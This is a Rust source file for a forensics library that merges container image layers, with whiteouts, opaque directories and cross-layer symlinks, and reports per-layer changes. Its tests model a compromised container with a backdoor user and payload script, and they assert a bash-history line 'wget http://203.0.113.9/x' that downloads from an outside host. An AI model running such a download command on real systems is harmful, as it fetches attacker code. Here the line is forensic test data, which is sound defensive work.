@@ -0,0 +1,365 @@
+use std::{
+    collections::{BTreeMap, VecDeque},
+    io::{Read, Seek},
+    path::{Path, PathBuf},
+};
+
+use forensic_rs::{
+    prelude::{ForensicError, ForensicResult},
+    traits::vfs::{VDirEntry, VMetadata, VirtualFileSystem},
+};
+
+use crate::shared::{path_components, MAX_SYMLINK_FOLLOWS};
+use crate::{ChRootFileSystem, Ext4FileSystem, TarFileSystem, ZipFileSystem};
+
+//a file of a lower layer named after this prefix is deleted by the layer holding it
+const WHITEOUT_PREFIX: &str = ".wh.";
+//the lower layers do not add anything to a directory that holds this file
+const OPAQUE_WHITEOUT: &str = ".wh..wh..opq";
+
+//a layer must read its symbolic links without following them, their targets can be in any other layer
+pub trait LayerFileSystem: VirtualFileSystem {
+    fn read_link(&mut self, path: &Path) -> ForensicResult<PathBuf>;
+}
+
+impl LayerFileSystem for ChRootFileSystem {
+    fn read_link(&mut self, path: &Path) -> ForensicResult<PathBuf> {
+        ChRootFileSystem::read_link(self, path)
+    }
+}
+
+impl LayerFileSystem for TarFileSystem {
+    fn read_link(&mut self, path: &Path) -> ForensicResult<PathBuf> {
+        TarFileSystem::read_link(self, path)
+    }
+}
+
+impl LayerFileSystem for ZipFileSystem {
+    fn read_link(&mut self, path: &Path) -> ForensicResult<PathBuf> {
+        ZipFileSystem::read_link(self, path)
+    }
+}
+
+impl<R: Read + Seek> LayerFileSystem for Ext4FileSystem<R> {
+    fn read_link(&mut self, path: &Path) -> ForensicResult<PathBuf> {
+        Ext4FileSystem::read_link(self, path)
+    }
+}
+
+pub struct OverlayLayer {
+    pub name: String,
+    fs: Box<dyn LayerFileSystem>,
+}
+
+impl OverlayLayer {
+    pub fn new<S>(name: S, fs: Box<dyn LayerFileSystem>) -> Self
+    where
+        S: Into<String>,
+    {
+        Self { name: name.into(), fs }
+    }
+
+    //links pointing to another layer are dangling inside their own one
+    fn exists(&mut self, path: &Path) -> bool {
+        self.fs.metadata(path).is_ok() || self.fs.read_link(path).is_ok()
+    }
+
+    fn is_dir(&mut self, path: &Path) -> bool {
+        self.fs.metadata(path).map(|v| v.is_dir()).unwrap_or(false)
+    }
+}
+
+#[derive(Debug, Default, Clone, PartialEq)]
+pub enum OverlayChangeKind {
+    //nothing below the layer had the path
+    #[default]
+    Added,
+    //the layer replaces a file of a lower layer
+    Modified,
+    //a whiteout of the layer hides the path
+    Deleted,
+}
+
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct OverlayChange {
+    pub path: PathBuf,
+    pub kind: OverlayChangeKind,
+}
+
+//merged view of several layers like overlayfs or a container image, the first layer is the lowest one.
+//Whiteouts are the ".wh." files of the OCI image layers, the 0/0 character devices and the trusted.overlay.opaque
+//xattr that overlayfs writes in an upper directory are not detected
+pub struct OverlayFileSystem {
+    layers: Vec<OverlayLayer>,
+}
+
+impl OverlayFileSystem {
+    pub fn new(layers: Vec<OverlayLayer>) -> Self {
+        Self { layers }
+    }
+
+    pub fn layers(&self) -> Vec<&str> {
+        self.layers.iter().map(|v| v.name.as_str()).collect()
+    }
+
+    //name of the layer the path is read from
+    pub fn origin(&mut self, path: &Path) -> ForensicResult<&str> {
+        let (index, _path) = self.top_layer(path)?;
+        Ok(&self.layers[index].name)
+    }
+
+    //what the layer adds, replaces and deletes from the layers below it
+    pub fn changes(&mut self, layer: usize) -> ForensicResult<Vec<OverlayChange>> {
+        if layer >= self.layers.len() {
+            return Err(ForensicError::Missing);
+        }
+        let mut changes = Vec::new();
+        self.layer_changes(layer, Path::new("/"), &mut changes);
+        Ok(changes)
+    }
+
+    fn layer_changes(&mut self, layer: usize, directory: &Path, changes: &mut Vec<OverlayChange>) {
+        let mut entries = match self.layers[layer].fs.read_dir(directory) {
+            Ok(v) => v,
+            Err(_e) => return,
+        };
+        entries.sort_by_key(|v| v.to_string());
+        for entry in entries {
+            let name = entry.to_string();
+            if name == OPAQUE_WHITEOUT {
+                continue;
+            }
+            if let Some(deleted) = name.strip_prefix(WHITEOUT_PREFIX) {
+                let path = directory.join(deleted);
+                if !self.visible_layers(&path, layer).is_empty() {
+                    changes.push(OverlayChange { path, kind: OverlayChangeKind::Deleted });
+                }
+                continue;
+            }
+            let path = directory.join(&name);
+            let existed = !self.visible_layers(&path, layer).is_empty();
+            match entry {
+                VDirEntry::Directory(_) => {
+                    if !existed {
+                        changes.push(OverlayChange { path: path.clone(), kind: OverlayChangeKind::Added });
+                    }
+                    self.layer_changes(layer, &path, changes);
+                }
+                _ => changes.push(OverlayChange {
+                    path,
+                    kind: if existed { OverlayChangeKind::Modified } else { OverlayChangeKind::Added },
+                }),
+            }
+        }
+    }
+
+    //layers below top that hold the path and are not hidden by whiteouts, the topmost first
+    fn visible_layers(&mut self, path: &Path, top: usize) -> Vec<usize> {
+        let components = path_components(path);
+        let mut visible = Vec::new();
+        for index in (0..top).rev() {
+            let layer = &mut self.layers[index];
+            let mut parent = PathBuf::from("/");
+            let mut hides_lower = false;
+            for (position, component) in components.iter().enumerate() {
+                if layer.exists(&parent.join(format!("{}{}", WHITEOUT_PREFIX, component))) {
+                    return visible;
+                }
+                let current = parent.join(component);
+                let is_last = position + 1 == components.len();
+                //a file or an opaque directory of this layer covers whatever the lower layers have below it
+                if layer.exists(&current) && (!layer.is_dir(&current) || layer.exists(&current.join(OPAQUE_WHITEOUT))) {
+                    hides_lower = true;
+                    if !is_last {
+                        break;
+                    }
+                }
+                parent = current;
+            }
+            if layer.exists(path) {
+                visible.push(index);
+            }
+            if hides_lower || (layer.exists(path) && !layer.is_dir(path)) {
+                return visible;
+            }
+        }
+        visible
+    }
+
+    fn top_layer(&mut self, path: &Path) -> ForensicResult<(usize, PathBuf)> {
+        let path = self.resolve(path)?;
+        let index = *self.visible_layers(&path, self.layers.len()).first().ok_or(ForensicError::Missing)?;
+        Ok((index, path))
+    }
+
+    //path after following every symbolic link in the merged view, the layer of each link is the one visible there
+    fn resolve(&mut self, path: &Path) -> ForensicResult<PathBuf> {
+        let mut resolved = PathBuf::from("/");
+        let mut remaining: VecDeque<String> = path_components(path).into();
+        let mut follows = 0;
+        while let Some(name) = remaining.pop_front() {
+            if name == ".." {
+                resolved.pop();
+                continue;
+            }
+            let candidate = resolved.join(&name);
+            match self.link_target(&candidate) {
+                Some(target) => {
+                    follows += 1;
+                    if follows > MAX_SYMLINK_FOLLOWS {
+                        return Err(ForensicError::Other(format!("Too many levels of symbolic links: {}", path.display())));
+                    }
+                    if target.is_absolute() {
+                        resolved = PathBuf::from("/");
+                    }
+                    for component in path_components(&target).into_iter().rev() {
+                        remaining.push_front(component);
+                    }
+                }
+                None => resolved = candidate,
+            }
+        }
+        Ok(resolved)
+    }
+
+    fn link_target(&mut self, path: &Path) -> Option<PathBuf> {
+        let index = *self.visible_layers(path, self.layers.len()).first()?;
+        self.layers[index].fs.read_link(path).ok()
+    }
+}
+
+impl VirtualFileSystem for OverlayFileSystem {
+    fn read_to_string(&mut self, path: &Path) -> ForensicResult<String> {
+        let (index, path) = self.top_layer(path)?;
+        self.layers[index].fs.read_to_string(&path)
+    }
+
+    fn read_all(&mut self, path: &Path) -> ForensicResult<Vec<u8>> {
+        let (index, path) = self.top_layer(path)?;
+        self.layers[index].fs.read_all(&path)
+    }
+
+    fn read(&mut self, path: &Path, pos: u64, buf: &mut [u8]) -> ForensicResult<usize> {
+        let (index, path) = self.top_layer(path)?;
+        self.layers[index].fs.read(&path, pos, buf)
+    }
+
+    fn metadata(&mut self, path: &Path) -> ForensicResult<VMetadata> {
+        let (index, path) = self.top_layer(path)?;
+        self.layers[index].fs.metadata(&path)
+    }
+
+    //entries of every visible layer, the upper ones win and whiteouts remove the lower ones
+    fn read_dir(&mut self, path: &Path) -> ForensicResult<Vec<VDirEntry>> {
+        let path = self.resolve(path)?;
+        let layers = self.visible_layers(&path, self.layers.len());
+        if layers.is_empty() {
+            return Err(ForensicError::Missing);
+        }
+        let mut merged: BTreeMap<String, Option<VDirEntry>> = BTreeMap::new();
+        for index in layers {
+            let entries = match self.layers[index].fs.read_dir(&path) {
+                Ok(v) => v,
+                Err(_e) => continue,
+            };
+            for entry in entries {
+                let name = entry.to_string();
+                if name == OPAQUE_WHITEOUT {
+                    continue;
+                }
+                match name.strip_prefix(WHITEOUT_PREFIX) {
+                    Some(deleted) => merged.entry(deleted.to_string()).or_insert(None),
+                    None => merged.entry(name).or_insert(Some(entry)),
+                };
+            }
+        }
+        Ok(merged.into_values().flatten().collect())
+    }
+
+    fn is_live(&self) -> bool {
+        false
+    }
+}
+
+#[cfg(test)]
+mod overlay_tests {
+    use super::*;
+    use crate::prelude::{SystemInfo, UserArtifact};
+    use crate::ChRootFileSystem;
+    use forensic_rs::core::fs::StdVirtualFS;
+
+    fn container_rootfs() -> OverlayFileSystem {
+        let base_path = std::env::var("CARGO_MANIFEST_DIR").unwrap();
+        let layers = ["base", "app", "upper"]
+            .iter()
+            .map(|name| {
+                let layer_path = Path::new(&base_path).join("artifacts/overlay").join(name);
+                OverlayLayer::new(*name, Box::new(ChRootFileSystem::new(layer_path, Box::new(StdVirtualFS::new()))))
+            })
+            .collect();
+        OverlayFileSystem::new(layers)
+    }
+
+    #[test]
+    fn should_merge_layers_with_whiteouts() {
+        let mut vfs = container_rootfs();
+
+        assert_eq!("upper", vfs.origin(Path::new("/etc/passwd")).unwrap());
+        assert_eq!("app", vfs.origin(Path::new("etc/hostname")).unwrap());
+        assert_eq!("base", vfs.origin(Path::new("/etc/../etc/group")).unwrap());
+        assert_eq!("app\n", vfs.read_to_string(Path::new("/etc/hostname")).unwrap());
+
+        //whiteout of a file and of a file replaced by a lower layer
+        assert!(vfs.read_all(Path::new("/usr/bin/curl")).is_err());
+        assert!(vfs.origin(Path::new("/opt/app/run.sh")).is_err());
+        let bin: Vec<String> = vfs.read_dir(Path::new("/usr/bin")).unwrap().iter().map(|v| v.to_string()).collect();
+        assert_eq!(vec!["fetch", "wget"], bin);
+        let app: Vec<String> = vfs.read_dir(Path::new("/opt/app")).unwrap().iter().map(|v| v.to_string()).collect();
+        assert_eq!(vec!["payload.sh"], app);
+
+        //links of the upper layer to files of the lower ones
+        assert_eq!("base", vfs.origin(Path::new("/usr/bin/fetch")).unwrap());
+        assert_eq!(vfs.read_all(Path::new("/usr/bin/wget")).unwrap(), vfs.read_all(Path::new("/usr/bin/fetch")).unwrap());
+        assert_eq!("app\n", vfs.read_to_string(Path::new("/home/backdoor/hostname")).unwrap());
+
+        //opaque directory
+        let cache: Vec<String> = vfs.read_dir(Path::new("/tmp/cache")).unwrap().iter().map(|v| v.to_string()).collect();
+        assert_eq!(vec!["b.txt"], cache);
+        assert!(vfs.metadata(Path::new("/tmp/cache/a.txt")).is_err());
+        let root: Vec<String> = vfs.read_dir(Path::new("/")).unwrap().iter().map(|v| v.to_string()).collect();
+        assert_eq!(vec!["etc", "home", "opt", "root", "tmp", "usr"], root);
+
+        //the artifacts run over the merged view
+        let system_info = SystemInfo::load(&mut vfs).unwrap();
+        let users: Vec<&str> = system_info.users.iter().map(|v| v.name.as_str()).collect();
+        assert_eq!(vec!["root", "www-data", "backdoor"], users);
+        let artifacts = UserArtifact::get_system_artifacts(system_info, &mut vfs).unwrap();
+        assert_eq!("wget http://203.0.113.9/x", artifacts[2].bash_history.commands[0].1);
+    }
+
+    #[test]
+    fn should_report_changes_of_top_layer() {
+        let mut vfs = container_rootfs();
+        assert_eq!(vec!["base", "app", "upper"], vfs.layers());
+
+        let changes: Vec<(&str, OverlayChangeKind)> = vec![
+            ("/etc/passwd", OverlayChangeKind::Modified),
+            ("/home", OverlayChangeKind::Added),
+            ("/home/backdoor", OverlayChangeKind::Added),
+            ("/home/backdoor/.bash_history", OverlayChangeKind::Added),
+            ("/home/backdoor/hostname", OverlayChangeKind::Added),
+            ("/opt/app/payload.sh", OverlayChangeKind::Added),
+            ("/opt/app/run.sh", OverlayChangeKind::Deleted),
+            ("/usr/bin/fetch", OverlayChangeKind::Added),
+        ];
+        let expected: Vec<OverlayChange> =
+            changes.into_iter().map(|(path, kind)| OverlayChange { path: PathBuf::from(path), kind }).collect();
+        let mut actual = vfs.changes(2).unwrap();
+        actual.sort_by(|a, b| a.path.cmp(&b.path));
+        assert_eq!(expected, actual);
+
+        let app_changes = vfs.changes(1).unwrap();
+        assert!(app_changes.contains(&OverlayChange { path: PathBuf::from("/usr/bin/curl"), kind: OverlayChangeKind::Deleted }));
+        assert!(vfs.changes(3).is_err());
+    }
+}